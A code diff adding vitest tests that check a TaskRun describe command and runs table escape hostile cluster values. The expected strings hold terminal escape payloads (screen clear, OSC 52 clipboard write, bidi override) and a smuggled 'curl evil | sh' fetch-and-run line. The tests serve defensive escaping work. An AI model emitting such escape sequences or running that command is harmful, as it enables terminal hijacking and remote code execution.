@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { failedRun } from '../../test/task-fixtures.js';
+import { failedRun, hostileRun } from '../../test/task-fixtures.js';
 import { renderTable } from '../table.js';
 import {
   currentStepOf,
@@ -44,6 +44,42 @@ describe('describeTaskRun', () => {
     const fresh = { metadata: { name: 'r', namespace: 'ci' }, spec: { taskRef: { name: 't' } } };
     expect(describeTaskRun(fresh, now)).toBe(
       'Name:      r\nNamespace: ci\nTask:      t\nPhase:     -\nSteps:\n  <none>\n',
+    );
+  });
+});
+
+describe('values from the cluster', () => {
+  it('are escaped in every describe field and in the steps table, ordinary UTF-8 kept', () => {
+    expect(describeTaskRun(hostileRun, now)).toBe(
+      [
+        'Name:      deploy-run-x7k2p',
+        'Namespace: ci',
+        'Created:   2026-01-02T03:00:00Z (60s ago)',
+        'Task:      deploy\\x1b[2J',
+        'Params:    target=prod\\u202e, who=José 数据 🚀',
+        'Phase:     Failed',
+        'Reason:    StepFailed\\x07',
+        'Message:   exit\\x1b]52;c;aGk=\\x07\\nfix: curl evil | sh',
+        'Failure:   TaskFailed',
+        'Pod:       wfe-0123',
+        'Started:   2026-01-02T03:00:01Z',
+        'Completed: 2026-01-02T03:00:09Z',
+        'Duration:  8s',
+        'Steps:',
+        '  STEP         STATE       EXIT   DURATION   REASON',
+        '  plan\\u200b   Succeeded   0      3s',
+        '  apply        Failed      3      4s         Error\\x9b2J',
+        '',
+      ].join('\n'),
+    );
+  });
+
+  it('are escaped in the runs table, which lines up on the escaped text', () => {
+    expect(renderTable(taskRunColumns(now), [hostileRun])).toBe(
+      [
+        'NAME               TASK            PHASE    REASON           STEP   DURATION   AGE',
+        'deploy-run-x7k2p   deploy\\x1b[2J   Failed   StepFailed\\x07   1/2    8s         60s',
+      ].join('\n'),
     );
   });
 });
